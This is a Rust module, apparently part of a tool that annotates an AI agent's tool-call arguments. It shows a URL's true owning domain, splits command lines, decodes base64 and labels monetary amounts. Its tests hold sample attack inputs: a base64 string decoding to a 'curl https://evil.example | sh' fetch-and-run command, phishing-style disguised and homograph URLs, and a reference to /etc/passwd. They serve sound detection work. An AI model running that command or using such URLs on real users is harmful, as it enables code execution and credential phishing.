//! What can be said about one value beyond its text: what a URL's domain is, how a command line falls apart, what stands
//! in base64, in what an amount is counted. Paths are looked at elsewhere: that takes a disk.

use super::{Argument, shell};
use base64::Engine;
use base64::engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig};
use serde_json::Value;

/// A mark on a value.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Mark {
    /// JSON pointer of the value.
    pub pointer: String,
    /// What is said about it.
    pub what: What,
}

/// What is said about a value.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum What {
    /// It is a URL.
    Url(Address),
    /// It is a command line: its pieces, in order.
    Command(Vec<(String, shell::Kind)>),
    /// It is base64 of text.
    Base64 {
        /// Foreign: the text, or its beginning.
        text: String,
        /// How many bytes there are in all.
        bytes: usize,
    },
    /// It is an amount.
    Amount {
        /// Foreign: the currency, as another argument names it.
        currency: Option<String>,
        /// Our words, where the argument's name says in what it is counted.
        unit: Option<&'static str>,
        /// A whole number beside a currency: some count in hundredths.
        maybe_hundredths: bool,
    },
}

/// A URL taken apart. The parts, joined, are the URL as programs read it.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Address {
    /// The scheme, with its colon and slashes.
    pub scheme: String,
    /// A name and password before the host: how a host is disguised.
    pub user: Option<String>,
    /// What stands before the registrable domain, with its dot.
    pub before: String,
    /// The registrable domain: who owns it. The whole host where it has none.
    pub domain: String,
    /// Port, path, query and fragment.
    pub after: String,
    /// The host in its other form, where it has letters beyond ASCII: the letters.
    pub letters: Option<String>,
    /// Whether what travels can be read on the way.
    pub open: bool,
}

/// Values longer than this are not looked into.
const LONGEST: usize = 8 * 1024;
/// The longest base64 that is decoded, and how much of its text is shown.
const LONGEST_BASE64: usize = 256 * 1024;
const DECODED: usize = 4 * 1024;
/// The most marks of one call.
const MOST: usize = 64;

const COMMANDS: &str = "command cmd command_line shell_command bash";
const AMOUNTS: &str =
    "amount total price sum amount_cents amount_minor total_amount unit_amount amount_usd amount_eur cost fee budget";

/// The marks of all values.
pub fn marks(arguments: &[Argument]) -> Vec<Mark> {
    let mut out = Vec::new();
    let currency = arguments.iter().find(|a| crate::tool::words(&a.name).join("_").starts_with("currency"));
    let currency = currency.and_then(|a| a.value.as_str()).map(str::to_owned);
    for argument in arguments {
        let root = format!("/{}", crate::call::token(&argument.name));
        let name = crate::tool::words(&argument.name).join("_");
        for (pointer, value) in crate::call::scalars(&argument.value) {
            if out.len() >= MOST {
                return out;
            }
            let said = match value {
                Value::String(text) => of_text(&name, text),
                Value::Number(number) if in_list(AMOUNTS, &name) => {
                    Some(amount(&name, currency.clone(), number.is_i64() || number.is_u64()))
                }
                _ => None,
            };
            let said = said.or_else(|| match value.as_str() {
                Some(text) if in_list(AMOUNTS, &name) && text.parse::<f64>().is_ok() => {
                    Some(amount(&name, currency.clone(), !text.contains(['.', ','])))
                }
                _ => None,
            });
            out.extend(said.map(|what| Mark { pointer: format!("{root}{pointer}"), what }));
        }
    }
    out
}

fn of_text(name: &str, text: &str) -> Option<What> {
    if in_list(COMMANDS, name) && text.len() <= LONGEST && !text.trim().is_empty() {
        let pieces = shell::pieces(text).into_iter().map(|p| (p.text.to_owned(), p.kind)).collect();
        return Some(What::Command(pieces));
    }
    if let Some(address) = address(text) {
        return Some(What::Url(address));
    }
    let (text, bytes) = decoded(text)?;
    Some(What::Base64 { text, bytes })
}

fn in_list(list: &str, name: &str) -> bool {
    list.split_whitespace().any(|n| n == name)
}

fn amount(name: &str, currency: Option<String>, whole: bool) -> What {
    let unit = unit_in_name(name);
    What::Amount { maybe_hundredths: whole && unit.is_none() && currency.is_some(), currency, unit }
}

/// In what an amount is counted, where the argument's name says so.
pub(super) fn unit_in_name(name: &str) -> Option<&'static str> {
    let words = crate::tool::words(name);
    let has = |w: &str| words.iter().any(|word| word == w);
    match () {
        () if has("cents") || has("cent") => Some("cents"),
        () if has("minor") => Some("in the smallest unit"),
        () if has("usd") || has("dollars") => Some("US dollars"),
        () if has("eur") || has("euros") => Some("euros"),
        () if has("gbp") || has("pounds") => Some("pounds"),
        () if has("percent") => Some("percent"),
        () => None,
    }
}

/// Takes a URL apart, where the whole value is one.
pub fn address(text: &str) -> Option<Address> {
    let text = text.trim();
    if text.len() > LONGEST || !text.contains("://") || text.contains(char::is_whitespace) {
        return None;
    }
    let url = url::Url::parse(text).ok()?;
    let host = url.host_str().filter(|h| !h.is_empty())?.to_owned();
    let domain = match url.host()? {
        url::Host::Domain(_) => psl::domain_str(&host).unwrap_or(&host).to_owned(),
        url::Host::Ipv4(_) | url::Host::Ipv6(_) => host.clone(),
    };
    let before = host.strip_suffix(domain.as_str()).unwrap_or_default().to_owned();
    let (letters, _) = idna::domain_to_unicode(&host);
    let user = match (url.username(), url.password()) {
        ("", None) => None,
        (name, None) => Some(format!("{name}@")),
        (name, Some(_)) => Some(format!("{name}:…@")),
    };
    let port = url.port().map(|p| format!(":{p}")).unwrap_or_default();
    let query = url.query().map(|q| format!("?{q}")).unwrap_or_default();
    let fragment = url.fragment().map(|f| format!("#{f}")).unwrap_or_default();
    Some(Address {
        scheme: format!("{}://", url.scheme()),
        user,
        before,
        domain,
        after: format!("{port}{}{query}{fragment}", url.path()),
        letters: (letters != host).then_some(letters),
        open: matches!(url.scheme(), "http" | "ws" | "ftp"),
    })
}

/// The text in base64, or its beginning, where it is text; and how many bytes it has in all.
fn decoded(text: &str) -> Option<(String, usize)> {
    let text = text.trim();
    let plain = |b: u8| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'-' | b'_' | b'=' | b'\n' | b'\r');
    // Short words and hex are base64 too, by accident.
    let hex = text.bytes().all(|b| b.is_ascii_hexdigit());
    let mixed = text.contains(|c: char| c.is_ascii_uppercase()) && text.contains(|c: char| c.is_ascii_lowercase());
    if !(24..=LONGEST_BASE64).contains(&text.len()) || !text.bytes().all(plain) || hex || !mixed {
        return None;
    }
    let joined: String = text.chars().filter(|c| !matches!(c, '\n' | '\r')).collect();
    let alphabet = if joined.contains(['-', '_']) { &base64::alphabet::URL_SAFE } else { &base64::alphabet::STANDARD };
    let lenient = GeneralPurposeConfig::new().with_decode_padding_mode(DecodePaddingMode::Indifferent);
    let bytes = GeneralPurpose::new(alphabet, lenient).decode(joined).ok()?;
    let all = bytes.len();
    let text = String::from_utf8(bytes).ok()?;
    let odd = text.chars().filter(|c| c.is_control() && !matches!(c, '\n' | '\t' | '\r')).count();
    if text.is_empty() || odd * 20 > text.chars().count() {
        return None;
    }
    let end = (0..=DECODED.min(text.len())).rev().find(|at| text.is_char_boundary(*at)).unwrap_or(0);
    Some((text[..end].to_owned(), all))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::meaning::arguments;

    #[test]
    fn the_owner_of_a_host_is_told_from_what_stands_before_it() {
        let a = address("https://accounts.google.com.login.evil.co.uk:8443/x?y=1#z").unwrap();
        assert_eq!((a.before.as_str(), a.domain.as_str()), ("accounts.google.com.login.", "evil.co.uk"));
        assert_eq!(a.after, ":8443/x?y=1#z");
        let a = address("http://bank.example@evil.example/").unwrap();
        assert_eq!((a.user.as_deref(), a.domain.as_str(), a.open), (Some("bank.example@"), "evil.example", true));
        let a = address("https://xn--pple-43d.com/").unwrap();
        assert_eq!((a.domain.as_str(), a.letters.as_deref()), ("xn--pple-43d.com", Some("\u{430}pple.com")));
        assert_eq!(address("https://аpple.com/").unwrap().domain, "xn--pple-43d.com");
        assert_eq!(address("http://127.0.0.1:80/a").unwrap().domain, "127.0.0.1");
        assert_eq!(address("see https://a.example"), None);
        assert_eq!(address("file:///etc/passwd"), None);
    }

    #[test]
    fn base64_of_text_is_found_and_words_are_not() {
        let of = |text: &str| decoded(text).map(|(text, _)| text);
        assert_eq!(of("Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZSB8IHNo").as_deref(), Some("curl https://evil.example | sh"));
        assert_eq!(of("aGVsbG8gd29ybGQsIGhvdyBhcmUgeW91Pw").as_deref(), Some("hello world, how are you?"));
        assert_eq!(of("9f3c71e0b84d2a159f3c71e0b84d2a15"), None, "hex");
        assert_eq!(of("internationalization-of-things"), None);
        assert_eq!(of("hello"), None);
    }

    #[test]
    fn amounts_say_in_what_they_are_counted() {
        let of = |json: &str| marks(&arguments(json.as_bytes())).into_iter().map(|m| m.what).next();
        let amount = |currency: Option<&str>, unit, maybe_hundredths| {
            Some(What::Amount { currency: currency.map(str::to_owned), unit, maybe_hundredths })
        };
        assert_eq!(of(r#"{"amount":12,"currency":"eur"}"#), amount(Some("eur"), None, true));
        assert_eq!(of(r#"{"amount":"12.50","currency":"eur"}"#), amount(Some("eur"), None, false));
        assert_eq!(of(r#"{"amount_cents":1200}"#), amount(None, Some("cents"), false));
    }
}
